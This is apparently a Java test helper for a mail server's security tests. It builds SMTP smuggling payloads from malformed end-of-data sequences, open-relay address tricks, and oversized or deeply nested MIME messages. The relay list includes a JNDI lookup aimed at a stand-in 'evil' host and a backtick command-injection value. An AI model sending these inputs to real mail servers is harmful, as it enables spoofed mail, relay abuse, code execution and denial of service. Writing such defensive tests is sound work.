package com.mailfence.deploy.flows;

import static java.nio.charset.StandardCharsets.UTF_8;

import com.mailfence.testbed.smtp.SmtpClient;
import java.net.InetSocketAddress;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** What is said to a mail port by those who mean harm. */
final class SmtpShapes {
  private SmtpShapes() {}

  /** Tries to log in by PLAIN and tells the reply. */
  static String login(InetSocketAddress server, String port, String user, String password)
      throws Exception {
    String pair =
        Base64.getEncoder().encodeToString(("\0" + user + "\0" + password).getBytes(UTF_8));
    boolean tls = port.equals("submissions");
    try (Stranger stranger = tls ? Stranger.secure(server) : Stranger.plain(server)) {
      stranger.line();
      if (!tls) {
        greet(stranger);
        reply(stranger.say("STARTTLS\r\n"));
        stranger.beginTls();
      }
      greet(stranger);
      return reply(stranger.say("AUTH PLAIN " + pair + "\r\n"));
    }
  }

  static void greet(Stranger stranger) throws Exception {
    reply(stranger.say("EHLO evil.example\r\n"));
  }

  /** The last line of a reply. */
  static String reply(Stranger stranger) throws Exception {
    String line = stranger.line();
    while (line.length() > 3 && line.charAt(3) == '-') {
      line = stranger.line();
    }
    return line;
  }

  /** Says all of it after the greeting and tells what came back until the server hung up. */
  static List<String> talk(InetSocketAddress server, String words) throws Exception {
    try (Stranger stranger = Stranger.plain(server)) {
      stranger.line();
      greet(stranger);
      return stranger.say(words).rest().lines().toList();
    }
  }

  /** The same after the commands of a message, when the server waits for it. */
  static List<String> message(InetSocketAddress server, String to, String words) throws Exception {
    try (Stranger stranger = Stranger.plain(server)) {
      stranger.line();
      greet(stranger);
      reply(stranger.say("MAIL FROM:<a@evil.example>\r\n"));
      reply(stranger.say("RCPT TO:<" + to + ">\r\n"));
      String go = reply(stranger.say("DATA\r\n"));
      if (!go.startsWith("354 ")) {
        throw new AssertionError(go);
      }
      return stranger.say(words).rest().lines().toList();
    }
  }

  /** Ends of a message that are none, each followed by a second message. SM01 */
  static Map<String, String> smuggled(String to) {
    String begin = "MAIL FROM:<a@evil.example>\r\nRCPT TO:<" + to + ">\r\nDATA\r\n";
    String second = begin + "Subject: smuggled\r\n\r\nsecond\r\n.\r\n";
    Map<String, String> all = new LinkedHashMap<>();
    for (String end :
        List.of(
            "\n.\n",
            "\n.\r\n",
            "\r\n.\n",
            "\r.\r",
            "\r.\r\n",
            "\r\n.\r",
            "\r\n\0.\r\n",
            "\r\n.\0\r\n",
            "\r\r\n.\r\n\n",
            "\n\n.\r\n")) {
      String name = end.replace("\r", "CR ").replace("\n", "LF ").replace("\0", "NUL ");
      all.put(name.strip(), "Subject: first\r\n\r\nfirst" + end + second + "QUIT\r\n");
    }
    return all;
  }

  /** Recipients elsewhere, in dress. SM06, SM24 */
  static List<String> relays() {
    return List.of(
        "<x@outside.example>",
        "<x%outside.example@house.example>",
        "<outside.example!x@house.example>",
        "<@house.example:x@outside.example>",
        "<\"x@outside.example\"@house.example>",
        "<\"x@outside.example\">",
        "<x@[127.0.0.1]>",
        "<x@[IPv6:::1]>",
        "<\"\"@house.example>",
        "<@house.example>",
        "<x@house.example@outside.example>",
        "<x@house.example.outside.example>",
        "<x@outside.example,eve@house.example>",
        "<${jndi:ldap://evil/a}@house.example>",
        "<`id`@house.example>",
        "<eve@house.example\0>");
  }

  /** Messages that are hard to read. MI01, MI02, MI03, MI04, MI05, MI06 */
  static Map<String, byte[]> absurd() {
    Map<String, String> all = new LinkedHashMap<>();
    String multipart = "Content-Type: multipart/mixed; boundary=b\r\n\r\n";
    all.put("100,000 parts", multipart + "--b\r\n\r\nx\r\n".repeat(100_000) + "--b--\r\n");
    var nested = new StringBuilder();
    for (int i = 0; i < 10_000; i++) {
      nested.append("Content-Type: multipart/mixed; boundary=b").append(i);
      nested.append("\r\n\r\n--b").append(i).append("\r\n");
    }
    all.put("10,000 nested multiparts", nested.toString());
    all.put("nested messages", "Content-Type: message/rfc822\r\n\r\n".repeat(10_000));
    all.put("one boundary for all", (multipart + "--b\r\n").repeat(5_000));
    all.put(
        "an empty boundary", "Content-Type: multipart/mixed; boundary=\r\n\r\n--\r\n\r\n--\r\n");
    var pieces = new StringBuilder("Content-Type: text/plain");
    for (int i = 0; i < 20_000; i++) {
      pieces.append(";\r\n name*").append(i).append("*=utf-8''a");
    }
    all.put("a name in 20,000 pieces", pieces + "\r\n\r\nx\r\n");
    all.put("100,000 addresses", "To: " + "a@b.example,\r\n ".repeat(100_000) + "c\r\n\r\nx\r\n");
    all.put("a field of five megabytes", "X-A: " + "a b\r\n ".repeat(800_000) + "\r\n\r\nx\r\n");
    all.put("100,000 references", "References: " + "<a@b>\r\n ".repeat(100_000) + "\r\n\r\nx\r\n");
    all.put("comments in comments", "From: " + "(".repeat(900) + "a@b\r\n\r\nx\r\n");
    all.put("two types", "Content-Type: text/html\r\nContent-Type: image/png\r\n\r\n<b>x</b>\r\n");
    all.put("no head", "\r\nx\r\n");
    all.put("nothing", "");
    all.put("odd addresses", "From: <>\r\nTo: undisclosed:;\r\nSender: (only)\r\n\r\nx\r\n");
    all.put("controls", "Subject: \1\2\b\u001b[31m\u007f\ufffe\r\n\r\n\1\u000b\ufffe\r\n");
    all.put("coded controls", "Subject: =?utf-8?q?a=00b=0D=0Ac=ED=A0=80=EF=BF=BE?=\r\n\r\nx\r\n");
    all.put("a charset that lies", "Content-Type: text/plain; charset=utf-16\r\n\r\nabc\r\n");
    all.put(
        "broken base64",
        "Content-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n=A=B==%%%\r\n");
    all.put("tables", "Content-Type: text/html\r\n\r\n" + "<table><tr><td>\r\n".repeat(50_000));
    all.put("entities", "Content-Type: text/html\r\n\r\n" + "&#x10FFFF;&#0;&lt\r\n".repeat(50_000));
    Map<String, byte[]> bytes = new LinkedHashMap<>();
    all.forEach((name, text) -> bytes.put(name, text.getBytes(UTF_8)));
    return bytes;
  }

  /** Sends a message and tells whether it was taken; anything but yes or no is a failure. */
  static boolean send(InetSocketAddress server, String to, byte[] message) throws Exception {
    try (SmtpClient smtp = SmtpClient.open(server)) {
      SmtpClient.Reply reply = smtp.send("a@evil.example", List.of(to), message);
      if (!reply.isYes() && reply.code() / 100 != 5) {
        throw new AssertionError(reply.text());
      }
      return reply.isYes();
    }
  }
}
